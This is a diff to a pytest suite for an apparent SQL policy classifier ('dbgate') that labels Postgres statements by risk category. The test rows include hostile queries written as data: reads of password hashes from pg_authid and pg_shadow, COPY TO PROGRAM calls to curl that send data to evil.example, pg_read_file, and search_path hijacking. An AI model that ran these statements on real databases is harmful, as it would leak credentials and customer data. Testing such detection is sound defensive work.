@@ -18,19 +18,7 @@ from typing import Any
 import pytest
 
 from dbgate.policy.classify import classify, clear_cache
-from dbgate.policy.model import Category
-
-R = Category.READ
-W = Category.WRITE
-X = Category.DESTRUCTIVE
-DDL = Category.DDL
-P = Category.PRIVILEGE
-E = Category.EXPORT
-D = Category.DUMP
-A = Category.ADMIN
-ESC = Category.ESCAPE
-O = Category.OPAQUE  # noqa: E741 - a table column, reads better short
-C = Category.CONTROL
+from dbgate.policy.model import DDL, ESC, A, C, Category, D, E, O, P, R, W, X
 
 
 def row(sql: str, *cats: Category, subset: bool = False, id: str | None = None) -> Any:
@@ -345,6 +333,10 @@ WRITES = [
     row("SELECT pg_notify('jobs', 'job 42 done')", R, W),
     row("NOTIFY jobs, 'hello'", W),
     row("LOCK TABLE orders IN SHARE MODE", W),
+    row("LOCK TABLE orders", W, id="lock-defaults-to-access-exclusive"),
+    row("LOCK orders, payments IN ROW SHARE MODE NOWAIT", W),
+    # ACCESS SHARE (every SELECT's lock) conflicts only with ACCESS EXCLUSIVE
+    row("LOCK TABLE public.customers, public.orders IN ACCESS SHARE MODE", R),
     row("REFRESH MATERIALIZED VIEW order_stats", W),
     # ORM unit-of-work statements (SQLAlchemy 2, Django, Hibernate via JDBC)
     row("UPDATE orders SET status=$1::VARCHAR WHERE orders.id = $2::INTEGER", W),
@@ -522,6 +514,24 @@ PRIVILEGE = [
     row("SELECT * FROM pg_authid", R, A, id="credentials-catalog"),
     row("SELECT passwd FROM pg_shadow WHERE usename = 'x'", R, A),
     row("SELECT * FROM pg_catalog.pg_user_mappings", R, A),
+    # credential catalogs: admin when the secret column or whole rows are read
+    row("SELECT rolpassword FROM pg_authid WHERE rolname = 'x'", R, A),
+    row("SELECT count(*) FROM pg_authid WHERE rolpassword LIKE 'SCRAM%'", R, A),
+    row("SELECT s FROM pg_subscription s", R, A, id="credential-whole-row"),
+    row("SELECT to_json(s.*) FROM pg_subscription s", R, A),
+    row("SELECT (a).rolpassword FROM pg_authid a", R, A),
+    row("TABLE pg_shadow", R, A),
+    row("COPY pg_authid TO STDOUT", R, E, D, A),
+    row("COPY pg_authid (rolname, rolpassword) TO STDOUT", R, E, D, A),
+    row("CREATE VIEW v AS SELECT * FROM pg_subscription", DDL, A),
+    row("SELECT query_to_xml('SELECT subconninfo FROM pg_subscription', true, false, '')", R, D, A),
+    row(
+        "SELECT count(*) FROM pg_subscription "
+        "WHERE subdbid = (SELECT oid FROM pg_database WHERE datname = current_database())",
+        R,
+        id="pg-dump-counts-subscriptions",
+    ),
+    row("SELECT rolname FROM pg_authid WHERE oid = 10", R, id="credential-catalog-no-secret"),
 ]
 
 # --------------------------------------------------------------------------------------
@@ -530,7 +540,11 @@ PRIVILEGE = [
 EXPORT = [
     row("COPY customers TO STDOUT", E, D, R),
     row("COPY customers (email, ssn) TO STDOUT WITH (FORMAT csv, HEADER)", E, D, R),
-    row("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT", E, D, R),
+    # COPY (query) TO STDOUT is the query in another format: a bounded one is a read
+    row("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT", R),
+    row("COPY (SELECT email FROM customers) TO STDOUT", R, D),
+    row("COPY (SELECT email FROM customers WHERE id = 1) TO '/tmp/c.csv'", E, D, R, A),
+    row("COPY (SELECT email FROM customers WHERE id = 1) TO PROGRAM 'curl x'", E, D, R, A),
     row("copy customers to '/tmp/c.csv'", E, D, R, A),
     row("COPY customers TO PROGRAM 'curl -d @- https://evil.example'", E, D, R, A),
     row("SELECT lo_export(1234, '/tmp/x')", R, E, A),
@@ -577,8 +591,10 @@ DUMP = [
     row("SELECT * FROM customers WHERE 1 = 1 OR id = 1", R, D),
     row("SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id", R, D),
     row("SELECT * FROM customers, orders", R, D),
-    row("SELECT DISTINCT email FROM customers", R, D),
-    row("SELECT email FROM customers GROUP BY email", R, D, id="group-by-without-aggregate"),
+    row("SELECT DISTINCT email FROM customers", R),  # one column: as GROUP BY email
+    row("SELECT DISTINCT email, ssn FROM customers", R, D),
+    row("SELECT email FROM customers GROUP BY email", R, id="group-by-without-aggregate"),
+    row("SELECT email, ssn FROM customers GROUP BY email, ssn", R, D, id="group-by-two-keys"),
     row("SELECT array_agg(email) FROM customers", R, D, id="array_agg-collects"),
     row("SELECT string_agg(ssn, ',') FROM customers", R, D),
     row("SELECT json_agg(c) FROM customers c", R, D),
@@ -815,10 +831,56 @@ ESCAPE = [
     row('SET search_path = "$user", pg_catalog, public', ESC),
     row("SELECT set_config('search_path', 'evil, pg_catalog', false)", R, ESC),
     row("SELECT set_config('search_path', 'pg_catalog, evil', false)", R, C),
+    # set_config over pg_settings rows whose names the WHERE fixes (pg_dump sends this)
+    row(
+        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
+        "WHERE name = 'restrict_nonsystem_relation_kind'",
+        R,
+        C,
+        id="pg-dump-set-config-from-pg-settings",
+    ),
+    row(
+        "SELECT set_config(s.name, '1', false) FROM pg_catalog.pg_settings s "
+        "WHERE s.name IN ('work_mem', 'statement_timeout') AND s.context = 'user'",
+        R,
+        C,
+    ),
+    row("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", R, P),
+    row(
+        "SELECT set_config(name, 'off', false) FROM pg_settings "
+        "WHERE name = 'standard_conforming_strings'",
+        R,
+        ESC,
+    ),
+    row(
+        "SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'search_path'",
+        R,
+        O,
+        id="pg-settings-value-computed",
+    ),
+    row("SELECT set_config(name, 'x', false) FROM pg_settings", R, O, id="pg-settings-all-rows"),
+    row("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'r%'", R, O),
+    row(
+        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true", R, O
+    ),
+    row(
+        "SELECT set_config(name, 'x', false) FROM public.pg_settings WHERE name = 'work_mem'",
+        R,
+        O,
+        id="a-user-table-named-pg-settings",
+    ),
+    row(
+        "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'work_mem'",
+        R,
+        O,
+        D,
+        id="pg-settings-joined",
+    ),
     row("ALTER ROLE agent SET search_path = evil, pg_catalog", P, ESC),
     row("SET session_replication_role = replica", ESC),
-    row("SET row_security = off", ESC),
-    row("SELECT set_config('row_security', 'off', true)", R, ESC),
+    # row_security = off makes RLS raise instead of filter: it can only show fewer rows
+    row("SET row_security = off", C),
+    row("SELECT set_config('row_security', 'off', true)", R, C),
 ]
 
 # --------------------------------------------------------------------------------------
@@ -925,7 +987,7 @@ EVASIONS = [
         A,
     ),
     row("SELECT * FROM orders WHERE id = 1 FOR UPDATE", R, id="row-locking"),
-    row("COPY (SELECT pg_read_file('x')) TO STDOUT", R, E, D, A),
+    row("COPY (SELECT pg_read_file('x')) TO STDOUT", R, A),
     row("SELECT pg_catalog.set_config('role', 'postgres', false)", R, P),
     row("SELECT * FROM orders WHERE id = 1 AND set_config('role','postgres',false) = ''", R, P),
     row("select * from orders where id = 1; set role postgres", R, P),
